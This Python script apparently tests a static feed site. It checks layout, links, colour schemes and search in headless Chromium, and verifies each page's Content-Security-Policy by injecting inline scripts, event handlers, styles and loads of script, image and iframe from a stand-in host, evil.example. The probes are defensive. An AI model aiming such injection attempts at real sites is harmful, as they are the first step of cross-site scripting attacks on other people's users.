#!/usr/bin/env python3
"""Chromium opens the pages for people as nginx serves them: nothing is complained of, nothing is asked of another host.

Each page in light and dark, 360 and 1280 pixels wide, with a picture of each under the folder for screenshots; the
search, the folded texts and every link between own files are tried.
"""
import argparse, pathlib, sys, urllib.request

from chromium import Browser
from nginx import Nginx

arguments = argparse.ArgumentParser(description=__doc__)
arguments.add_argument("--screenshots", type=pathlib.Path, default=pathlib.Path("target/screenshots"))
arguments.add_argument("--readme", type=pathlib.Path, help="write the pictures of the README to this folder")
arguments.add_argument("public", type=pathlib.Path)
arguments = arguments.parse_args()
checked = 0

WIDTHS = {"phone": (360, 740), "desk": (1280, 900)}
OVERFLOW = "document.documentElement.scrollWidth - document.documentElement.clientWidth"
LINKS = "[...document.querySelectorAll('a[href], link[href], script[src]')].map(e => e.href || e.src)"
GROUND = "(style => style.backgroundColor + style.color)(getComputedStyle(document.body))"
POLICY = "document.querySelector('meta[http-equiv=Content-Security-Policy]').content"
# Tries what a hostile entry would; answers which directives of the policy stepped in, and whether a script ran.
BREAK_IN = """new Promise(done => {
  const refused = new Set();
  const policy = document.querySelector('meta[http-equiv=Content-Security-Policy]').content;
  // A page that allows styles of its own by the word, not by their hash, cannot tell a foreign one; it holds no HTML of sites.
  const styles = policy.includes("style-src 'unsafe-inline'") ? [] : ['style-src-attr', 'style-src-elem'];
  const tries = ['script-src-elem', 'script-src-attr', 'img-src', 'connect-src', 'frame-src', ...styles];
  document.addEventListener('securitypolicyviolation', event => {
    refused.add(event.effectiveDirective);
    if (tries.every(name => refused.has(name))) done(window.ran ? 'a script ran' : 'all refused');
  });
  setTimeout(() => done('refused were only ' + [...refused]), 20000);
  const add = (name, attributes, text = '') => {
    const element = document.createElement(name);
    for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
    element.textContent = text;
    document.body.append(element);
  };
  add('script', {}, 'window.ran = 1');
  add('script', { src: 'https://evil.example/a.js' });
  add('p', { onclick: 'window.ran = 1' });
  add('p', { style: 'color: red' });
  add('style', {}, 'p { color: red }');
  add('img', { src: 'https://evil.example/a.png' });
  add('iframe', { src: 'https://evil.example/' });
  fetch('https://evil.example/').catch(() => {});
})"""


def check(what, good):
    global checked
    checked += 1
    if not good:
        sys.exit(f"error: {what}")


def is_quiet(tab, server, page):
    foreign = [url for url, _ in tab.requests() if not url.startswith((server.url(), "data:"))]
    check(f"{page} asks {foreign}", not foreign)
    check(f"{page}: {tab.complaints()}", not tab.complaints())


def links_work(tab, server, page):
    own = {url.split("#")[0] for url in tab.evaluate(LINKS) if url.startswith(server.url())}
    check(f"{page} has no links", own or page == "404.html")
    for url in sorted(own):
        check(f"{page} links {url}", urllib.request.urlopen(url, timeout=30).status == 200)


with Nginx(arguments.public) as server, Browser() as browser:
    tab = browser.tab()
    pages = sorted(path.name for path in arguments.public.glob("*.html"))
    check("there are no pages", "index.html" in pages and len(pages) > 1)
    for page in pages:
        grounds = set()
        for scheme in ("light", "dark"):
            for name, (width, height) in WIDTHS.items():
                tab.open(server.url(page), width, height, scheme)
                is_quiet(tab, server, page)
                check(f"{page} is wider than {width} pixels", tab.evaluate(OVERFLOW) <= 0)
                check(f"the style of {page} is refused", tab.evaluate("document.styleSheets.length") == 1)
                grounds.add(tab.evaluate(GROUND))
                tab.screenshot(arguments.screenshots / f"{page.removesuffix('.html')}-{scheme}-{name}.png", whole=True)
        check(f"{page} has one colour scheme: {grounds}", len(grounds) == 2)
        links_work(tab, server, page)
        tab.evaluate("window.ran = 0")
        check(f"{page} allows any style", page == "status.html" or "style-src 'sha256-" in tab.evaluate(POLICY))
        held = tab.evaluate(BREAK_IN)
        check(f"the policy of {page} does not hold: {held}", held == "all refused")

    # The search: shows itself by script, finds by any word, and hides groups without a feed.
    tab.open(server.url("index.html"))
    feeds = tab.evaluate("document.querySelectorAll('.feed').length")
    check("the search is hidden", tab.evaluate("document.querySelector('#search').checkVisibility()"))
    tab.evaluate("(f => { f.value = 'GEARBOX'; f.dispatchEvent(new Event('input')) })(document.querySelector('#search input'))")
    shown = tab.evaluate("[...document.querySelectorAll('.feed')].filter(e => e.checkVisibility()).map(e => e.id)")
    check(f"the search shows {shown}", shown == ["feed-gearbox"])
    check("the search does not count", tab.evaluate("document.querySelector('#search output').value") == f"1 of {feeds}")

    # An opened text asks for its pictures, from the hosts that the page allows, and for nothing else.
    tab.open(server.url("today.html"))
    tab.evaluate("document.querySelector('article details').open = true")
    tab.settle()
    tab.evaluate("document.querySelector('article details img').scrollIntoView()")
    tab.settle()
    asked = [(url, kind) for url, kind in tab.requests() if not url.startswith((server.url(), "data:"))]
    check(f"an opened text asks {asked}", asked and all(kind == "Image" and url.startswith("https://today.example/") for url, kind in asked))
    refused = [words for words in tab.complaints() if "ERR_NAME_NOT_RESOLVED" not in words]
    check(f"an opened text: {refused}", not refused)

    if arguments.readme:
        for page, name, height in (("index.html", "index", 800), ("gearbox.html", "feed", 800)):
            tab.open(server.url(page), 1000, height)
            tab.screenshot(arguments.readme / f"page-{name}.png")
print(f"{checked} checks of the pages are well; their pictures are in {arguments.screenshots}")
